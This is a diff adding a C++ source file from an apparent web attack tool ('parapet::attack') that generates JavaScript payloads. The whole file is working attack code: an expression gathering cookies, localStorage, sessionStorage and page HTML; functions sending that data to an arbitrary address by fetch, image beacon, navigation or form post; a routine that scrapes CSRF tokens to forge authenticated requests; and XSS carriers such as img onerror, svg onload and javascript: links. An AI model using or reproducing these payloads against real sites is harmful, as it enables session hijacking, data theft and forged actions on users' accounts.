@@ -1,0 +1,75 @@
+#include "core/attack/page_script.h"
+
+namespace parapet::attack {
+
+char const kAllInReach[] =
+    "document.cookie+\"\\n\"+JSON.stringify(localStorage)+\"\\n\"+JSON.stringify(sessionStorage)+"
+    "\"\\n\"+document.documentElement.innerHTML";
+
+std::string send_script(Channel channel, std::string const& address,
+                        std::string const& expression) {
+    std::string const url = script_string(address);
+    std::string const query = script_string(address + "?");
+    switch (channel) {
+        case Channel::Fetch:
+            return "fetch(" + url + ",{method:\"POST\",mode:\"no-cors\",body:" + expression + "});";
+        case Channel::Image:
+            return "new Image().src=" + query + "+encodeURIComponent(" + expression + ");";
+        case Channel::Navigation:
+            return "location=" + query + "+encodeURIComponent(" + expression + ");";
+        case Channel::Form:
+            return "const f=document.createElement(\"form\");f.method=\"post\";f.action=" + url +
+                   ";const i=document.createElement(\"input\");i.name=\"t\";i.value=" + expression +
+                   ";f.appendChild(i);document.body.appendChild(f);f.submit();";
+    }
+    return {};
+}
+
+std::string fetch_and_send(std::string const& page, std::string const& address) {
+    return "fetch(" + script_string(page) +
+           ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
+           send_script(Channel::Fetch, address, "t") + send_script(Channel::Image, address, "t") +
+           "});";
+}
+
+std::string fetch_script(std::string_view method, std::string const& address, std::string_view type,
+                         std::string const& body, std::string const& more_headers) {
+    return "fetch(" + script_string(address) + ",{method:\"" + std::string(method) +
+           "\",credentials:\"include\",headers:{\"content-type\":\"" + std::string(type) + "\"" +
+           more_headers + "},body:" + body + "});";
+}
+
+std::string act_script(Target const& target, Endpoint const& endpoint, OwnForm const& own) {
+    auto const fields = wanted_fields(endpoint);
+    bool const is_json =
+        !endpoint.parameters.empty() && endpoint.parameters.front().place == Place::JsonField;
+    std::string_view const type =
+        is_json ? "application/json" : "application/x-www-form-urlencoded";
+    std::string body = is_json ? json_object(fields) : http::serialize_query(fields);
+    Endpoint const* page = target.surface().find(own.page);
+    std::string const address = address_of(target, endpoint);
+    if (page == nullptr || own.before_token.empty())
+        return fetch_script(endpoint.method, address, type, script_string(body));
+    if (is_json) body.pop_back();
+    std::string const& name = own.tokens.front().name;
+    std::string const expression =
+        is_json ? script_string(body + ",\"" + name + "\":\"") + "+t+'\"}'"
+                : script_string(body + "&" + name + "=") + "+encodeURIComponent(t)";
+    return "fetch(" + script_string(address_of(target, *page)) +
+           ",{credentials:\"include\"}).then(r=>r.text()).then(p=>{const t=p.split(" +
+           script_string(own.before_token) + ")[1].split(" + script_string(own.after_token) +
+           ")[0];" +
+           fetch_script(endpoint.method, address, type, expression, ",\"x-csrf-token\":t") + "});";
+}
+
+std::vector<std::string> script_carriers(std::string const& script) {
+    std::string const attribute = in_quotes(script);
+    return {"<script>" + script + "</script>",
+            "<img src=\"x:\" onerror=" + attribute + ">",
+            "<svg onload=" + attribute + "></svg>",
+            "<iframe srcdoc=" + in_quotes("<script>" + script + "</script>") + "></iframe>",
+            "<iframe src=" + in_quotes("javascript:" + script) + "></iframe>",
+            "<a href=" + in_quotes("javascript:" + script) + ">Read more</a>"};
+}
+
+}  // namespace parapet::attack
